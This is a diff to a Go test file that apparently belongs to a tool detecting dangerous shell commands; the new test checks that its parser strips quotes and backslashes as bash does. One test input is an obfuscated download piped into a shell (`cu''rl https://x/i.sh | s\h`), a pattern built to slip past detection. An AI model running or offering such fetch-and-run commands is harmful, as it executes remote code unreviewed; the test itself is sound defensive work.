@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"reflect"
 	"strings"
@@ -70,5 +71,35 @@ func TestAnalyzeSketchesOnce(t *testing.T) {
 		case ok && !reflect.DeepEqual(*got, want):
 			t.Errorf("%q: Analyze sketched %v, SketchOf %v", cmd, *got, want)
 		}
+	}
+}
+
+// The sketch's words are the words bash runs, quotes and backslashes
+// removed as bash removes them (the one quote removal the analysis uses):
+// bash's printf of each literal word is the oracle. A download piped into
+// s\h is one into sh (issue 39: the danger lines missed it).
+func TestSketchRemovesQuotesAsBash(t *testing.T) {
+	s, ok := SketchOf(`cu''rl https://x/i.sh | s\h`)
+	if !ok || !reflect.DeepEqual(s.Calls, [][]string{{"curl", "https://x/i.sh"}, {"sh"}}) || !reflect.DeepEqual(s.Pipelines, [][]int{{0, 1}}) {
+		t.Errorf("sketch %q %v", s.Calls, s.Pipelines)
+	}
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash")
+	}
+	words := `cu''rl s\h "s\h" "a\"b\$c\\d" 'a\b' $'\x41\t\'' "cu"r'l' a\ b \~ "x\
+y" z\
+w ""`
+	s, ok = SketchOf("printf " + words)
+	if !ok || len(s.Calls) != 1 {
+		t.Fatalf("not sketched: %v", s.Calls)
+	}
+	out, err := exec.Command(bash, "-c", `printf '%s\0' `+words).Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
+	if got := s.Calls[0][1:]; !reflect.DeepEqual(got, want) {
+		t.Errorf("sketch %q, bash %q", got, want)
 	}
 }
